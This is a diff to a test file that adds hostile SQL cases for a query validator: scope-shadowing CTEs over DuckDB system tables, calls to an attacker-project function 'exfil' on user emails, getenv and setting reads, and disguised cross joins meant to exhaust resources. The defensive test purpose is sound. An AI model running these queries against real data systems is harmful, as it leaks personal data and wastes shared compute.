@@ -168,6 +168,41 @@ def _cases() -> list[Hostile]:
         f"SELECT boom1.*, boom2.* FROM {OI} AS boom1 JOIN `demo.thelook_ecommerce.users` AS boom2 ON TRUE",
         f"SELECT boom1.id FROM {OI} AS boom1 JOIN {OI} AS boom2 ON 1 = 1",
     )
+    add(  # second round: a CTE name is a CTE only inside the scope its WITH covers
+        "scoped-cte",
+        "SELECT name AS boom FROM (WITH duckdb_settings AS (SELECT 'x' AS name) SELECT name FROM duckdb_settings)"
+        " UNION ALL SELECT name FROM duckdb_settings",
+        "SELECT (SELECT COUNT(*) FROM duckdb_tables) AS boom FROM (WITH duckdb_tables AS (SELECT 1 AS n) SELECT n"
+        " FROM duckdb_tables)",
+        "WITH duckdb_columns AS (SELECT * FROM duckdb_columns) SELECT * FROM duckdb_columns",
+        "SELECT * FROM (WITH t AS (SELECT 1 AS n) SELECT n FROM t) WHERE EXISTS (SELECT 1 FROM t)",
+        "SELECT boom FROM (SELECT 1 AS boom FROM (WITH duckdb_views AS (SELECT 1 AS x) SELECT x FROM duckdb_views))"
+        " JOIN duckdb_views USING (boom)",
+        "WITH a AS (SELECT * FROM b), b AS (SELECT 1 AS n) SELECT * FROM a",
+    )
+    add(  # user-defined and other projects' functions, in every quoting form
+        "udf",
+        f"SELECT `attacker-proj.ds.exfil`(email) AS boom FROM {USERS}",
+        f"SELECT SAFE.`attacker-proj.ds.exfil`(email) AS boom FROM {USERS}",
+        f"SELECT `attacker-proj`.ds.exfil(email) AS boom FROM {USERS}",
+        f"SELECT `attacker-proj`.`ds`.`exfil`(email) AS boom FROM {USERS}",
+        f"SELECT SAFE.ds.exfil(email) AS boom FROM {USERS}",
+        f"SELECT `ds.exfil`(email) AS boom FROM {USERS}",
+        f"SELECT `demo.thelook_ecommerce.exfil`(email) AS boom FROM {USERS}",
+        "SELECT current_setting('memory_limit') AS boom",
+        "SELECT getenv('HOME') AS boom",
+    )
+    add(  # cross joins in disguise: generated UNNEST, conditions true of every pair
+        "hidden-cross-join",
+        f"SELECT COUNT(*) AS boom FROM {OI} AS a CROSS JOIN UNNEST(GENERATE_ARRAY(1, 100000)) AS n",
+        f"SELECT COUNT(*) AS boom FROM {OI} AS a, UNNEST(GENERATE_ARRAY(1, 100000)) AS n",
+        f"SELECT COUNT(*) AS boom FROM {OI} AS a JOIN {OI} AS b ON a.id = a.id",
+        f"SELECT COUNT(*) AS boom FROM {OI} AS a JOIN {OI} AS b ON (a.id = a.id) AND TRUE",
+        f"SELECT COUNT(*) AS boom FROM {OI} AS a JOIN {OI} AS b ON a.id = a.order_id",
+        f"SELECT COUNT(*) AS boom FROM {OI} AS a JOIN {OI} AS b ON a.id = b.id OR TRUE",
+        f"SELECT COUNT(*) AS boom FROM {OI} AS a JOIN {OI} AS b ON a.id <> b.id",
+        f"SELECT COUNT(*) AS boom FROM {OI} AS a CROSS JOIN UNNEST(ARRAY(SELECT id FROM {OI})) AS n",
+    )
     add(  # a huge join with a condition is legal SQL: the byte cap stops it before it runs
         "huge-join",
         f"SELECT boom1.*, boom2.* FROM {OI} AS boom1 JOIN {OI} AS boom2 ON boom1.user_id = boom2.user_id",
